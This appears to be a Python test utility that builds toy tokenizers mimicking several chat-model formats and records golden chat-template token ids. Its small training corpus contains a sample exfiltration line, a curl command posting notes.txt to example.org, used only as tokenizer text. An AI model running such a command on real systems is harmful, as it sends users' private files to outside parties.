"""Small tokenizers of every construction that matters, as the dicts of tokenizer.json, and chat checkpoints made of them.

python tests/toy_tokenizers.py > tests/golden_chat.json       # with the peers extra: what transformers makes of the fixed ones
"""

import functools
import json
import sys
from pathlib import Path

from tokenizers import AddedToken, Regex, Tokenizer, decoders, models, normalizers, pre_tokenizers, trainers

TEMPLATES = {
    path.stem: path.read_text(encoding="utf-8")
    for path in sorted((Path(__file__).parent / "templates").glob("*.jinja"))
}
SPECIAL = [
    "<unk>",
    "<s>",
    "</s>",
    "<bos>",
    "<|begin_of_text|>",
    "<|endoftext|>",
    "<|im_start|>",
    "<|im_end|>",
    "<|start_header_id|>",
    "<|end_header_id|>",
    "<|eot_id|>",
    "<start_of_turn>",
    "<end_of_turn>",
    "<|system|>",
    "<|user|>",
    "<|assistant|>",
    "<|end|>",
    "[INST]",
    "[/INST]",
]
OTHER = ["<think>", "</think>", "<tool_response>", "</tool_response>"]  # added tokens that are not special
NAMES = {"bos_token": "<s>", "eos_token": {"__type": "AddedToken", "content": "</s>"}, "unk_token": "<unk>"}
CORPUS = """Flag the transcript if private data is sent to an outside party. Answer Yes or No.
$ cat notes.txt
the user asked for the report; the agent sent it to the team

$ curl -d @notes.txt http://example.org
    {"role": "assistant", "content": "done"}
Yes
No
Answer: Yes, the agent sent private data. Answer: No, it did not. yes no system user assistant model end im_end
naïve café, 12 + 34 = 46;日本語 and العربية
"""
CORPUS = [text.replace("\n", "\n\n") for text in 3 * [CORPUS]] + CORPUS.splitlines(keepends=True)


def as_dict(tokenizer) -> dict:
    return json.loads(tokenizer.to_str())


def trained(model, trainer, *, pre_tokenizer=None, normalizer=None, decoder=None, corpus=CORPUS):
    tokenizer = Tokenizer(model)
    tokenizer.normalizer = normalizer or tokenizer.normalizer
    tokenizer.pre_tokenizer = pre_tokenizer or tokenizer.pre_tokenizer
    tokenizer.decoder = decoder or tokenizer.decoder
    tokenizer.train_from_iterator(corpus, trainer)
    return tokenizer


def add_control(tokenizer, **flags) -> dict:
    tokenizer.add_tokens([AddedToken(text, special=True, normalized=False, **flags) for text in SPECIAL])
    tokenizer.add_tokens([AddedToken(text, special=False, normalized=False, **flags) for text in OTHER])
    return as_dict(tokenizer)


def byte_level(model=None, corpus=CORPUS, special_tokens=(), use_regex=True, **parts):
    trainer = trainers.BpeTrainer(
        vocab_size=700,
        special_tokens=list(special_tokens),
        show_progress=False,
        initial_alphabet=pre_tokenizers.ByteLevel.alphabet(),
    )
    split = pre_tokenizers.ByteLevel(add_prefix_space=False, use_regex=use_regex)
    parts = {"pre_tokenizer": split, "decoder": decoders.ByteLevel(), **parts}
    return trained(model or models.BPE(), trainer, corpus=corpus, **parts)


def control_first() -> dict:
    """As data/base: control tokens have the first ids and stand in the model's vocabulary. It would begin a text with <s>."""
    data = as_dict(byte_level(special_tokens=SPECIAL + OTHER))
    data["post_processor"] = {
        "type": "TemplateProcessing",
        "single": [{"SpecialToken": {"id": "<s>", "type_id": 0}}, {"Sequence": {"id": "A", "type_id": 0}}],
        "pair": [{"Sequence": {"id": "A", "type_id": 0}}, {"Sequence": {"id": "B", "type_id": 1}}],
        "special_tokens": {"<s>": {"id": "<s>", "ids": [1], "tokens": ["<s>"]}},
    }
    data["added_tokens"] = [
        {**token, "special": token["content"] not in OTHER} for token in data["added_tokens"]
    ]
    return data


def control_last() -> dict:
    """As Qwen: control tokens are appended to the vocabulary. The file also asks to cut and to pad, which no chat should be."""
    data = add_control(byte_level())
    return {
        **data,
        "truncation": {"max_length": 4, "stride": 0, "strategy": "LongestFirst", "direction": "Right"},
        "padding": {
            "strategy": {"Fixed": 64},
            "direction": "Right",
            "pad_to_multiple_of": None,
            "pad_id": 0,
            "pad_type_id": 0,
            "pad_token": "<unk>",
        },
    }


def ignore_merges() -> dict:
    """As Llama 3: a word that is in the vocabulary is one token, whatever the merges; control strings are in the vocabulary."""
    split = pre_tokenizers.Sequence(
        [
            pre_tokenizers.Split(
                Regex(
                    r"[^\r\n\p{L}\p{N}]?\p{L}+|\p{N}{1,3}| ?[^\s\p{L}\p{N}]+[\r\n]*|\s*[\r\n]+|\s+(?!\S)|\s+"
                ),
                "isolated",
            ),
            pre_tokenizers.ByteLevel(add_prefix_space=False, use_regex=False),
        ]
    )
    data = add_control(byte_level(pre_tokenizer=split))
    data["model"]["vocab"].update({token["content"]: token["id"] for token in data["added_tokens"]})
    data["model"]["ignore_merges"] = True
    return data


def control_merged() -> dict:
    """Merges of the model itself build the control strings, and the added tokens take those ids."""
    return add_control(byte_level(corpus=CORPUS + (SPECIAL + OTHER) * 300, use_regex=False))


def sentencepiece(pre_tokenizer=None, normalizer=None, control=True, **flags):
    """As Llama 2, Mistral, Phi 3: byte fallback, a space is U+2581."""
    pieces = [f"<0x{byte:02X}>" for byte in range(256)]
    trainer = trainers.BpeTrainer(
        vocab_size=900, special_tokens=["<unk>", "<s>", "</s>", *pieces], show_progress=False
    )
    decoder = decoders.Sequence(
        [decoders.Replace("\u2581", " "), decoders.ByteFallback(), decoders.Fuse(), decoders.Strip(" ", 1, 0)]
    )
    model = models.BPE(unk_token="<unk>", byte_fallback=True, fuse_unk=True)
    words = [line.replace("\n", "") for line in CORPUS]
    data = as_dict(
        trained(
            model,
            trainer,
            pre_tokenizer=pre_tokenizers.Metaspace("\u2581", "always"),
            decoder=decoder,
            corpus=words,
        )
    )
    data["added_tokens"] = [token for token in data["added_tokens"] if token["content"] not in pieces]
    data["pre_tokenizer"] = None
    tokenizer = Tokenizer.from_str(json.dumps(data))
    if pre_tokenizer:
        tokenizer.pre_tokenizer = pre_tokenizer
    if normalizer:
        tokenizer.normalizer = normalizer
    return add_control(tokenizer, **flags) if control else tokenizer


def prepend() -> dict:
    return sentencepiece(
        normalizer=normalizers.Sequence([normalizers.Prepend("\u2581"), normalizers.Replace(" ", "\u2581")])
    )


def rstrip() -> dict:
    """As Phi 3: white space after a control token is swallowed."""
    normalizer = normalizers.Sequence([normalizers.Prepend("\u2581"), normalizers.Replace(" ", "\u2581")])
    return sentencepiece(normalizer=normalizer, rstrip=True)


def metaspace(scheme) -> dict:
    return sentencepiece(pre_tokenizer=pre_tokenizers.Metaspace("\u2581", scheme, split=False))


def gemma() -> dict:
    """White space among the added tokens, and control tokens that no template writes, one within another."""
    tokenizer = sentencepiece(normalizer=normalizers.Replace(" ", "\u2581"), control=False)
    tokenizer.decoder = decoders.Sequence(
        [decoders.Replace("\u2581", " "), decoders.ByteFallback(), decoders.Fuse()]
    )
    tokenizer.add_tokens(
        [
            AddedToken(text, normalized=False)
            for text in ["\n", "\n\n", "\n\n\n", "\u2581\u2581", "<h1>", "<h2>", "<h1><h2>"]
        ]
    )
    return add_control(tokenizer)


def spaced() -> dict:
    """Control tokens with white space in them and at their ends."""
    tokenizer = byte_level()
    tokenizer.add_tokens(
        [AddedToken(text, normalized=False) for text in ["\n<turn>", "<turn> ", "<turn a>", "<turn>"]]
    )
    return add_control(tokenizer)


def unigram() -> dict:
    """No byte fallback: a character may be unknown, and <unk> is one of the added tokens."""
    trainer = trainers.UnigramTrainer(
        vocab_size=300, special_tokens=SPECIAL, unk_token="<unk>", show_progress=False
    )
    data = as_dict(
        trained(
            models.Unigram(),
            trainer,
            pre_tokenizer=pre_tokenizers.Metaspace(),
            decoder=decoders.Metaspace(),
            corpus=CORPUS + SPECIAL + OTHER,
        )
    )
    data["model"]["vocab"] += [["Yes", -6.0], ["No", -6.0]]
    return add_control(Tokenizer.from_str(json.dumps(data)))


def nfkc() -> dict:
    """Control tokens are looked for in the normalized text, where full-width letters have become plain ones."""
    tokenizer = byte_level(normalizer=normalizers.NFKC())
    tokenizer.add_tokens([AddedToken(text, special=True, normalized=True) for text in SPECIAL])
    tokenizer.add_tokens([AddedToken(text, special=False, normalized=True) for text in OTHER])
    return as_dict(tokenizer)


BUILDERS = {
    "control_first": control_first,
    "control_last": control_last,
    "ignore_merges": ignore_merges,
    "control_merged": control_merged,
    "nfkc": nfkc,
    "prepend": prepend,
    "rstrip": rstrip,
    "metaspace_first": functools.partial(metaspace, "first"),
    "metaspace_always": functools.partial(metaspace, "always"),
    "gemma": gemma,
    "unigram": unigram,
}
BYTE_LEVEL = [
    "control_first",
    "control_last",
    "ignore_merges",
    "control_merged",
]  # what they encode decodes to the same text


@functools.cache
def toy(name: str) -> str:
    return json.dumps(spaced() if name == "spaced" else BUILDERS[name]())


def by_hand(
    words=("Yes", "No", " Yes", "\n\n", "user", "assistant", "system", "the", " the", "model"),
) -> dict:
    """A byte-level tokenizer without training, so that its ids never change: merges build each word from the left."""
    letters = sorted(pre_tokenizers.ByteLevel.alphabet())
    vocab, merges = {letter: i for i, letter in enumerate(letters)}, []
    for word in words:
        spelled = pre_tokenizers.ByteLevel(add_prefix_space=False, use_regex=False).pre_tokenize_str(word)[0][
            0
        ]
        for end in range(1, len(spelled)):
            if spelled[: end + 1] not in vocab:
                vocab[spelled[: end + 1]] = len(vocab)
                merges.append([spelled[:end], spelled[end]])
    tokenizer = Tokenizer(models.BPE(vocab, [tuple(pair) for pair in merges]))
    tokenizer.pre_tokenizer, tokenizer.decoder = (
        pre_tokenizers.ByteLevel(add_prefix_space=False),
        decoders.ByteLevel(),
    )
    return add_control(tokenizer)


def write_checkpoint(directory, tokenizer, template, *, names=NAMES, **files):
    """tokenizer: a dict or its text. files: further JSON files by name."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    text = tokenizer if isinstance(tokenizer, str) else json.dumps(tokenizer)
    (directory / "tokenizer.json").write_text(text, encoding="utf-8")
    config = {"tokenizer_class": "PreTrainedTokenizerFast", "added_tokens_decoder": {}, **names}
    (directory / "tokenizer_config.json").write_text(json.dumps(config), encoding="utf-8")
    if template is not None:
        (directory / "chat_template.jinja").write_text(template, encoding="utf-8", newline="\n")
    for name, value in files.items():
        (directory / f"{name}.json").write_text(json.dumps(value), encoding="utf-8")
    return directory


CONVERSATIONS = [
    [("user", "Is it 12 + 34?")],
    [("system", "Answer Yes or No."), ("user", "  $ cat notes.txt\n\nthe naïve 日本語 <b>\n")],
    [("user", "a"), ("assistant", "Yes"), ("user", "\n\nthe model")],
]


def golden():
    """What transformers makes of `by_hand` under every template. The llama3 template's date is the day this runs; it is kept."""
    from datetime import date

    import transformers

    tokenizer = transformers.PreTrainedTokenizerFast(
        tokenizer_object=Tokenizer.from_str(json.dumps(by_hand())),
        bos_token="<s>",
        eos_token="</s>",
        unk_token="<unk>",
    )
    cases = []
    for name, template in TEMPLATES.items():
        for turns in CONVERSATIONS:
            messages = [{"role": role, "content": text} for role, text in turns]
            if name in ("gemma", "mistral") and turns[0][0] == "system":
                continue  # transformers refuses or drops the words
            for thinking in {"qwen3": (False, True), "deepseek": (True,)}.get(name, (False,)):
                ids = tokenizer.apply_chat_template(
                    messages,
                    chat_template=template,
                    add_generation_prompt=True,
                    enable_thinking=thinking,
                    return_dict=False,
                )
                cases.append({"template": name, "messages": messages, "thinking": thinking, "ids": ids})
    made = f"python tests/toy_tokenizers.py, transformers {transformers.__version__}: apply_chat_template over toy_tokenizers.by_hand()"
    return {"made_by": made, "date": date.today().isoformat(), "cases": cases}


if __name__ == "__main__":
    record = golden()
    lines = ",\n".join("  " + json.dumps(case, ensure_ascii=False) for case in record.pop("cases"))
    sys.stdout.write(json.dumps(record)[:-1] + ', "cases": [\n' + lines + "\n]}\n")
